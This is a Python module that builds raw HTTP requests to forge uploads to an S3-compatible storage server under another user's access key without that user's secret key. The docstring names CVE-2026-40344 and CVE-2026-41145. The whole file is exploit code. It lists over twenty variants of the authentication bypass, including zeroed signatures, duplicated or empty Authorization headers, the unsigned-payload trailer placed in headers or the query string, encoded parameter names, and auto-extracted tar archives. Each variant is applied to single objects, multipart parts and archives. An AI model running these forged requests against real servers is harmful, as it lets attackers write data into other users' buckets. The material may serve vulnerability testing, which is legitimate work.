"""Uploads with another user's name and without that user's secret: all forms of CVE-2026-40344 and CVE-2026-41145."""

from __future__ import annotations

import io
import tarfile
import zlib
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.client import HTTPConnection
from urllib.parse import quote, urlsplit

UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
CONTENT = b"forged"


@dataclass(frozen=True)
class Upload:
    """One request, sent exactly as it is, without corrections by a client."""

    name: str
    path: str
    query: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = field(default=b"", repr=False)
    method: str = "PUT"

    def send(self, endpoint: str) -> tuple[int, str]:
        """Send the request; return status and text of the response."""
        connection = HTTPConnection(urlsplit(endpoint).netloc, timeout=20)
        try:
            target = f"{self.path}?{self.query}" if self.query else self.path
            connection.putrequest(self.method, target)
            for name, value in (("Content-Length", str(len(self.body))), *self.headers):
                connection.putheader(name, value)
            connection.endheaders(self.body)
            response = connection.getresponse()
            return response.status, response.read().decode(errors="replace")
        finally:
            connection.close()


def encode_with_trailer(content: bytes) -> bytes:
    """Return the body of an upload with an unsigned trailer, which is the content's checksum."""
    checksum = b64encode(zlib.crc32(content).to_bytes(4, "big"))
    return b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (len(content), content, checksum)


def make_archive(key: str) -> bytes:
    """Return a tar archive with one object."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        entry = tarfile.TarInfo(key)
        entry.size = len(CONTENT)
        tar.addfile(entry, io.BytesIO(CONTENT))
    return archive.getvalue()


def forge_uploads(access_key: str, bucket: str, key: str, upload_id: str) -> Iterator[Upload]:
    """Yield all known forms with that user's name: an object, a part of a multipart upload, an archive."""
    now = datetime.now(UTC)
    date, scope = now.strftime("%Y%m%dT%H%M%SZ"), f"{now:%Y%m%d}/us-east-1/s3/aws4_request"
    credential = quote(f"{access_key}/{scope}", safe="")
    unknown_credential = quote(f"NOBODY/{scope}", safe="")
    common_headers = (
        ("X-Amz-Date", date),
        ("X-Amz-Decoded-Content-Length", str(len(CONTENT))),
        ("X-Amz-Trailer", "x-amz-checksum-crc32"),
    )
    trailer_header = ("X-Amz-Content-Sha256", UNSIGNED_TRAILER)
    signature = "0" * 64
    signed = "SignedHeaders=host;x-amz-content-sha256;x-amz-date"
    authorization = (
        "Authorization",
        f"AWS4-HMAC-SHA256 Credential={access_key}/{scope}, {signed}, Signature={signature}",
    )
    presigned = f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date={date}&X-Amz-Expires=600&X-Amz-SignedHeaders=host"
    credential_query = f"X-Amz-Credential={credential}"
    trailer_query = f"X-Amz-Content-Sha256={UNSIGNED_TRAILER}"
    form = ("Content-Type", "application/x-www-form-urlencoded")
    forms: dict[str, tuple[str, tuple[tuple[str, str], ...]]] = {
        "credential in the query": (credential_query, (trailer_header,)),
        "whole presigned query": (f"{presigned}&{credential_query}&X-Amz-Signature={signature}", (trailer_header,)),
        "empty Authorization": (credential_query, (trailer_header, ("Authorization", ""))),
        "empty Authorization, then a forged one": (
            credential_query,
            (trailer_header, ("Authorization", ""), authorization),
        ),
        "another Authorization": (credential_query, (trailer_header, ("Authorization", "Basic eDp5"))),
        "forged Authorization": ("", (trailer_header, authorization)),
        "forged Authorization and credential in the query": (credential_query, (trailer_header, authorization)),
        "trailer in the query": (f"{presigned}&{credential_query}&{trailer_query}&X-Amz-Signature={signature}", ()),
        "trailer in header and query": (f"{credential_query}&{trailer_query}", (trailer_header,)),
        "trailer in a lower-case query": (
            f"{credential_query}&x-amz-content-sha256={UNSIGNED_TRAILER}",
            (trailer_header,),
        ),
        "encoded names and values": (
            f"%58-Amz-Credential={credential}&%58-Amz-Content-Sha256=%53TREAMING-UNSIGNED-PAYLOAD-TRAILER",
            (trailer_header,),
        ),
        "lower-case header": (credential_query, (("x-amz-content-sha256", UNSIGNED_TRAILER),)),
        "lower-case value": (credential_query, (("X-Amz-Content-Sha256", UNSIGNED_TRAILER.lower()),)),
        "spaces around the value": (credential_query, (("X-Amz-Content-Sha256", f"  {UNSIGNED_TRAILER}\t "),)),
        "trailer twice": (credential_query, (trailer_header, trailer_header)),
        "trailer before another": (credential_query, (trailer_header, ("X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD"))),
        "trailer after another": (credential_query, (("X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD"), trailer_header)),
        "two credentials": (f"{credential_query}&X-Amz-Credential={unknown_credential}", (trailer_header,)),
        "two credentials, the other first": (
            f"X-Amz-Credential={unknown_credential}&{credential_query}",
            (trailer_header,),
        ),
        "version 2": (f"AWSAccessKeyId={access_key}&Signature=AAAA&Expires=9999999999", (trailer_header,)),
        "both versions": (
            f"AWSAccessKeyId={access_key}&Signature=AAAA&Expires=9999999999&{credential_query}",
            (trailer_header,),
        ),
        "form content": (credential_query, (trailer_header, form)),
        "no trailer": (credential_query, ()),
    }
    for name, (query, headers) in forms.items():
        body = encode_with_trailer(CONTENT)
        yield Upload(f"object: {name}", f"/{bucket}/{key}", query, common_headers + headers, body)
        part = f"partNumber=1&uploadId={quote(upload_id, safe='')}"
        yield Upload(
            f"part: {name}", f"/{bucket}/{key}", f"{part}&{query}" if query else part, common_headers + headers, body
        )
        extract = (("X-Amz-Meta-Snowball-Auto-Extract", "true"),)
        yield Upload(
            f"archive: {name}", f"/{bucket}/any.tar", query, common_headers + headers + extract, make_archive(key)
        )
    form_body = f"{credential_query}&{trailer_query}&Signature=AAAA".encode()
    yield Upload("object: all in a form", f"/{bucket}/{key}", "", (*common_headers, form), form_body)
    yield Upload(
        "object: credential in a form",
        f"/{bucket}/{key}",
        "",
        (*common_headers, trailer_header, form),
        credential_query.encode(),
    )
    yield Upload(
        "object: POST",
        f"/{bucket}/{key}",
        credential_query,
        (*common_headers, trailer_header),
        encode_with_trailer(CONTENT),
        "POST",
    )
